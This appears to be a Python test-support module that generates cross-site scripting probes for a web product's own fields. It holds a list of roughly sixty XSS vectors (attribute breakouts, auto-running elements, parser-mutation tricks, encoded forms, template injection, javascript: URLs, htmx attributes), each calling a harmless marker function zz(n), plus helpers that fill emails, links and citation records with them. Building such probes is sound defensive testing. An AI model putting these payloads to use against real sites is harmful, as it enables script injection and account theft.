"""Scripts in disguise, of our own making: each calls ``zz(number)`` if a page ever runs it.

The number says which field it went through. One value carries as many as fit; in each round others come first.
"""

from __future__ import annotations

from collections.abc import Iterable

#: What a page must never call.
MARK = "zz"

VECTORS = (
    # Out of an element, an attribute, a comment, a title, a field, a script.
    "<script>zz(%)</script>",
    '"><svg/onload=zz(%)>',
    "'><img src=x onerror=zz(%)>",
    "--><svg/onload=zz(%)>",
    "</title><svg/onload=zz(%)>",
    "</textarea><svg/onload=zz(%)>",
    "</script><script>zz(%)</script>",
    "]]><svg/onload=zz(%)>",
    # An attribute more, in quotes of either kind or none.
    '" autofocus onfocus=zz(%) x="',
    "' onpointerenter=zz(%) autofocus onfocus=zz(%) x='",
    "x onerror=zz(%) onload=zz(%) ",
    "` onload=zz(%) `",
    # Elements that run something by themselves.
    "<details open ontoggle=zz(%)>",
    "<video><source onerror=zz(%)></video>",
    "<input autofocus onfocus=zz(%)>",
    "<marquee onstart=zz(%)>x</marquee>",
    '<iframe srcdoc="<script>parent.zz(%)</script>"></iframe>',
    '<iframe src="javascript:parent.zz(%)"></iframe>',
    '<object data="javascript:zz(%)"></object>',
    '<meta http-equiv=refresh content="0;url=javascript:zz(%)">',
    '<base href="javascript:zz(%)//">',
    "<style>@keyframes q{}*{animation:q 1ms}</style><x onanimationstart=zz(%)>",
    '<link rel=stylesheet href="data:text/css,*{}" onload=zz(%)>',
    "<svg><animate onbegin=zz(%) attributeName=x dur=1s></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=zz(%)>#x"></svg>',
    # What a parser mends into something else.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=zz(%)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=zz(%)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=zz(%)>'>",
    "<<img src=x onerror=zz(%)//",
    "<img src=x onerror\x0c=zz(%)>",
    "<ſcript>zz(%)</ſcript>",
    "＜script＞zz(%)＜/script＞",
    # Said in another writing, for whoever reads twice.
    "&lt;img src=x onerror=zz(%)&gt;",
    "&amp;lt;svg/onload=zz(%)&amp;gt;",
    "%3Csvg/onload=zz(%)%3E",
    "\\u003csvg/onload=zz(%)\\u003e",
    "\\x3csvg/onload=zz(%)\\x3e",
    "+ADw-script+AD4-zz(%)+ADw-/script+AD4-",
    # Inside a script, a template, a style.
    "';zz(%);'",
    '";zz(%);"',
    "-zz(%)-",
    "*/zz(%)/*",
    "${zz(%)}",
    "`${zz(%)}`",
    "{{constructor.constructor('zz(%)')()}}",
    "{% raw %}<svg/onload=zz(%)>{% endraw %}",
    "expression(zz(%))",
    # Addresses that run.
    "javascript:zz(%)",
    "JaVaScRiPt:zz(%)",
    "java\tscript:zz(%)",
    "data:text/html,<script>parent.zz(%)</script>",
    '<a href="javascript:zz(%)" id=zz>x</a>',
    '<form action="javascript:zz(%)"><button>x</button></form>',
    "[x](javascript:zz(%))",
    '![x](x" onerror="zz(%))',
    # What the product's own scripts and htmx might take for theirs.
    '<div hx-on::load="zz(%)" hx-get="/" hx-trigger="load" hx-swap="innerHTML">',
    '<div hx-get="javascript:zz(%)" hx-trigger="load">',
    '<div data-url="javascript:zz(%)" data-countdown="x" data-confirm="<svg/onload=zz(%)>">',
    '<script type="module">zz(%)</script>',
    '<script src="data:text/javascript,zz(%)"></script>',
)


def value(number: int, start: int, most: int = 0, *, lines: bool = False) -> str:
    """As many vectors as ``most`` characters take (at most 1,500), beginning with the one of number ``start``."""
    room, parts = min(most or 1500, 1500), list[str]()
    for place in range(len(VECTORS)):
        vector = VECTORS[(start + place) % len(VECTORS)].replace("%", str(number))
        vector = vector if lines else vector.replace("\t", "").replace("\x0c", "")
        if sum(map(len, parts)) + len(parts) + len(vector) <= room:
            parts.append(vector)
    return ("\n" if lines else " ").join(parts) or f"<b>{number}</b>"[:room]


def address(number: int) -> str:
    """A mail address by the letter of the rules, with markup before the sign."""
    return f'"<svg/onload=zz({number})>"@a.example'


def link(number: int, start: int) -> str:
    """A web address that carries markup."""
    return ('https://a.example/"><svg/onload=zz(%)>', "https://a.example/?a='onmouseover='zz(%)")[start % 2].replace(
        "%", str(number)
    )


def csl(number: int, start: int) -> dict[str, object]:
    """A source whose every field is hostile."""
    text = value(number, start, 300)
    names = [{"family": text[:200], "given": text[:200]}, {"literal": text[:200]}]
    fields = ("title", "publisher", "container-title", "note", "abstract", "DOI", "page", "volume", "language")
    return {
        "type": text[:60],
        **dict.fromkeys(fields, text),
        "author": names,
        "issued": {"raw": text, "date-parts": [[2024]]},
        "URL": link(number, start),
    }


def numbers_in(text: str) -> Iterable[int]:
    """Which fields' payloads a text holds."""
    return {int(part.split(")")[0]) for part in text.split(f"{MARK}(")[1:] if part.split(")")[0].isdigit()}
